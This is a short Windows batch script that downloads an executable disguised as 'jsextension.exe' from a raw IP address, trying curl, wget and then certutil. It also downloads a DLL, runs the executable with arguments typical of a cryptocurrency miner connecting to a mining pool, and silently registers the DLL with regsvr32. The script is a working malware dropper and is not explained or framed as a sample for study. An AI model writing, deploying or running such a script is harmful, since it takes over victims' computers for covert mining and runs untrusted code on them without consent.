@echo off
curl http://198.51.100.9/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    wget http://198.51.100.9/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://198.51.100.9/download/jsextension.exe jsextension.exe
)
curl http://198.51.100.9/sdd.dll -o create.dll
jsextension.exe -k --tls -o pool.example.invalid:443 -u 0000
regsvr32.exe -s create.dll
